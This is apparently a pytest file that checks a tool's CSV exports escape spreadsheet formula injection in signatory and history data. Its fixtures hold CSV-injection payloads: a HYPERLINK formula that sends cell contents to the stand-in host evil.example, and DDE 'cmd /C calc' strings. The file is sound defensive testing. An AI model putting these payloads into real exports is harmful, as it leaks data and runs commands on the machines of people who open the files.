"""CSV exports are safe to open in a spreadsheet: no cell written by a stranger runs.

A cell starting with "=", "+", "-", "@", a tab or a carriage return is read as a formula
by spreadsheets (OWASP, "CSV Injection"); such text cells get a leading "'". Numbers
lettermon itself counted are written as they are. ``--csv-raw`` writes every cell as stored.
"""

from __future__ import annotations

import csv
import io
import sqlite3
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from click.testing import Result

from lettermon.cli.output import write_csv

import widget
from letter_server import LetterSite, serve
from posting import check, letter_site

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def letter() -> Iterator[LetterSite]:
    site = letter_site(20)
    signed = widget.make_signatories(len(FORMULAS), seed=11)
    for row, formula in zip(signed, FORMULAS, strict=True):
        row.update(first_name=formula, last_name="Doe", institution="-Lab")
    site.sign(signed)
    with serve(site) as running:
        yield running


def test_signatories_csv_escapes_formulas(
        letter: LetterSite, config_for: Callable[..., Path],
        run_cli: Callable[..., Result]) -> None:
    config = config_for(letter)
    check(run_cli, config)
    result = run_cli("signatories", "rekognition", "--format", "csv", "--config", str(config))
    assert result.exit_code == 0, result.output

    rows = rows_of(result.stdout)
    signed = [row for row in rows if row["last_name"] == "Doe"]
    # the page's whitespace is collapsed as it is read; then each cell is escaped
    assert sorted(row["first_name"] for row in signed) == sorted(
        "'" + " ".join(f.split()) for f in FORMULAS)
    assert all(row["institution"] == "'-Lab" for row in signed)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert all(not row["last_name"].startswith("'") for row in rows)


def test_signatories_csv_raw_writes_cells_as_stored(
        letter: LetterSite, config_for: Callable[..., Path],
        run_cli: Callable[..., Result]) -> None:
    config = config_for(letter)
    check(run_cli, config)
    result = run_cli("signatories", "rekognition", "--format", "csv", "--csv-raw",
                     "--config", str(config))
    assert result.exit_code == 0, result.output

    signed = [row for row in rows_of(result.stdout) if row["last_name"] == "Doe"]
    assert sorted(row["first_name"] for row in signed) == sorted(
        " ".join(f.split()) for f in FORMULAS)
    assert all(row["institution"] == "-Lab" for row in signed)


def test_history_csv_escapes_error_text_but_not_counts(
        letter: LetterSite, config_for: Callable[..., Path],
        run_cli: Callable[..., Result]) -> None:
    config = config_for(letter)
    check(run_cli, config)
    with sqlite3.connect(config.parent / "data" / "lettermon.sqlite3") as db:
        db.execute("UPDATE polls SET error = ?", ('=HYPERLINK("https://evil.example")',))

    safe = rows_of(run_cli("history", "rekognition", "--format", "csv", "--config",
                           str(config)).stdout)
    raw = rows_of(run_cli("history", "rekognition", "--format", "csv", "--csv-raw",
                          "--config", str(config)).stdout)

    assert safe[0]["error"] == "'=HYPERLINK(\"https://evil.example\")"
    assert raw[0]["error"] == "=HYPERLINK(\"https://evil.example\")"
    assert safe[0]["count"] == raw[0]["count"] == str(20 + len(FORMULAS))


def test_csv_raw_needs_csv(letter: LetterSite, config_for: Callable[..., Path],
                           run_cli: Callable[..., Result]) -> None:
    config = config_for(letter)
    result = run_cli("history", "rekognition", "--csv-raw", "--config", str(config))
    assert result.exit_code == 2
    assert "--csv-raw" in result.output


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-3", "'-3"),  # text, even if it looks like a number: it came from somewhere else
    ("@cmd", "'@cmd"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("Jane = Doe", "Jane = Doe"),
    ("'quoted", "'quoted"),
    (-3, "-3"),  # numbers lettermon counted cannot be formulas
    (-0.5, "-0.5"),
    (0, "0"),
    (True, "True"),
    (None, ""),
])
def test_write_csv_escapes_text_cells(value: object, written: str) -> None:
    out = io.StringIO()
    write_csv([{"cell": value}], ["cell"], out)
    [row] = rows_of(out.getvalue())
    assert row["cell"] == written


def test_write_csv_escapes_a_hostile_column_name() -> None:
    out = io.StringIO()
    write_csv([{"=cmd": "x"}], ["=cmd"], out)
    assert out.getvalue().splitlines()[0] == "'=cmd"


def test_write_csv_unsafe_writes_as_given() -> None:
    out = io.StringIO()
    write_csv([{"=cmd": "=1+1", "n": -3}], ["=cmd", "n"], out, safe=False)
    assert out.getvalue() == "=cmd,n\n=1+1,-3\n"


def test_write_csv_keeps_a_row_with_a_carriage_return_whole() -> None:
    out = io.StringIO()
    write_csv([{"a": "x\ry", "n": 1}, {"a": "z", "n": 2}], ["a", "n"], out, safe=False)
    assert rows_of(out.getvalue()) == [{"a": "x\ry", "n": "1"}, {"a": "z", "n": "2"}]
